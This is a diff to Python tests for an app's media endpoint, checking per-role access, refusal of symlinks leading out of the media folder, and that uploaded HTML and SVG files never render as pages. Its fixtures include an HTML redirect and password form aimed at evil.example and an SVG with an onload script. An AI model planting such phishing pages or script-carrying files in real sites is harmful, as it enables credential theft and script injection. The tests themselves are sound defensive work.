@@ -29,15 +29,15 @@ async def _upload(client, token, color):
 async def test_an_image_is_served_to_those_who_may_see_a_project_that_shows_it(client, admin, requester, make_user,
                                                                                 new_project, settings):
     shown, unused = await _upload(client, requester, "red"), await _upload(client, requester, "blue")
-    (settings.media_dir / "shelf").mkdir(parents=True)
-    (settings.media_dir / "shelf" / "a.png").write_bytes(_png("green"))
-    project = await new_project(tasks=[{"data": {"image": shown}}, {"data": {"image": "shelf/a.png"}}],
+    (settings.media_dir / "shared" / "shelf").mkdir(parents=True)
+    (settings.media_dir / "shared" / "shelf" / "a.png").write_bytes(_png("green"))
+    project = await new_project(tasks=[{"data": {"image": shown}}, {"data": {"image": "shared/shelf/a.png"}}],
                                 task_type="image_classification", labels=["x"])
     (insider, insider_token), (_, outsider), (_, other_requester) = (
         await make_user("worker"), await make_user("worker"), await make_user("requester"))
     await client.put(f"/api/projects/{project['id']}/pool", json={"all_workers": False, "workers": [insider["id"]]},
                      headers=bearer(requester))
-    for path in (shown, "shelf/a.png"):
+    for path in (shown, "shared/shelf/a.png"):
         for token, status in ((requester, 200), (admin, 200), (insider_token, 200), (outsider, 404),
                               (other_requester, 404)):
             assert (await client.get(f"/media/{path}", headers=bearer(token))).status_code == status, (path, status)
@@ -77,26 +77,27 @@ async def test_a_link_out_of_the_media_folder_is_no_file_when_named_in_a_task(cl
                                                                             settings, tmp_path, task_type):
     outside = tmp_path / "outside.png"
     outside.write_bytes(_png("red"))
-    (settings.media_dir / "ops").mkdir(parents=True, exist_ok=True)
-    (settings.media_dir / "ops" / "out.png").symlink_to(outside)  # served as 404: so naming it is refused too
-    (settings.media_dir / "ops" / "real.png").write_bytes(_png("blue"))
-    (settings.media_dir / "ops" / "in.png").symlink_to(settings.media_dir / "ops" / "real.png")
+    (settings.media_dir / "shared" / "ops").mkdir(parents=True, exist_ok=True)
+    # served as 404: so naming it is refused too
+    (settings.media_dir / "shared" / "ops" / "out.png").symlink_to(outside)
+    (settings.media_dir / "shared" / "ops" / "real.png").write_bytes(_png("blue"))
+    (settings.media_dir / "shared" / "ops" / "in.png").symlink_to(settings.media_dir / "shared" / "ops" / "real.png")
     project = await new_project(task_type=task_type, labels=["a"])
     url = f"/api/projects/{project['id']}/tasks"
-    r = await client.post(url, json=[{"data": {"image": "ops/out.png"}}], headers=bearer(requester))
+    r = await client.post(url, json=[{"data": {"image": "shared/ops/out.png"}}], headers=bearer(requester))
     assert r.status_code == 400 and r.json()["error"]["field"] == "data.image", r.text
-    assert "no file 'ops/out.png'" in r.json()["error"]["message"]
-    assert (await client.get("/media/ops/out.png", headers=bearer(requester))).status_code == 404
-    r = await client.post(url, json=[{"data": {"image": "ops/in.png"}}], headers=bearer(requester))
+    assert "no file 'shared/ops/out.png'" in r.json()["error"]["message"]
+    assert (await client.get("/media/shared/ops/out.png", headers=bearer(requester))).status_code == 404
+    r = await client.post(url, json=[{"data": {"image": "shared/ops/in.png"}}], headers=bearer(requester))
     assert r.status_code == 201, r.text  # a link that stays inside is a file like any other
-    assert (await client.get("/media/ops/in.png", headers=bearer(requester))).status_code == 200
+    assert (await client.get("/media/shared/ops/in.png", headers=bearer(requester))).status_code == 200
 
 
 async def test_a_media_file_is_served_as_an_image_or_a_download_never_as_a_page(client, requester, new_project,
                                                                                 settings, make_user):
     """An .html or .svg an operator put in the media folder, named by a task: opened in a tab it runs no script and
     shows no page under this origin (no form to steal a password, no redirect elsewhere)."""
-    shelf = settings.media_dir / "shelf"
+    shelf = settings.media_dir / "shared" / "shelf"
     shelf.mkdir(parents=True)
     page = b'<meta http-equiv="refresh" content="0;url=https://evil.example/"><form action="https://evil.example/">'
     (shelf / "page.html").write_bytes(page)
@@ -104,7 +105,7 @@ async def test_a_media_file_is_served_as_an_image_or_a_download_never_as_a_page(
     (shelf / "drawing.svg").write_bytes(b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned = 1"/>')
     (shelf / "photo.png").write_bytes(_png("red"))
     names = ("page.html", "notes.txt", "drawing.svg", "photo.png")
-    project = await new_project(tasks=[{"data": {"image": f"shelf/{name}"}} for name in names],
+    project = await new_project(tasks=[{"data": {"image": f"shared/shelf/{name}"}} for name in names],
                                 task_type="image_classification", labels=["x"])
     _, worker = await make_user("worker")
     signed: dict[str, str] = {}
@@ -112,12 +113,12 @@ async def test_a_media_file_is_served_as_an_image_or_a_download_never_as_a_page(
         lease = (await client.post(f"/api/projects/{project['id']}/next", headers=bearer(worker))).json()
         signed.update(lease["task"]["media"])
         await client.post(f"/api/assignments/{lease['assignment_id']}/skip", headers=bearer(worker))
-    assert set(signed) == {f"shelf/{name}" for name in names}
+    assert set(signed) == {f"shared/shelf/{name}" for name in names}
     for name, kind, download in (("page.html", "application/octet-stream", True),
                                  ("notes.txt", "application/octet-stream", True),
                                  ("drawing.svg", "image/svg+xml", False), ("photo.png", "image/png", False)):
-        for r in (await client.get(f"/media/shelf/{name}", headers=bearer(requester)),
-                  await client.get(signed[f"shelf/{name}"])):
+        for r in (await client.get(f"/media/shared/shelf/{name}", headers=bearer(requester)),
+                  await client.get(signed[f"shared/shelf/{name}"])):
             assert r.status_code == 200, (name, r.status_code)
             assert r.headers["content-type"] == kind, (name, r.headers["content-type"])
             assert r.headers.get("content-disposition", "").startswith("attachment") is download, name
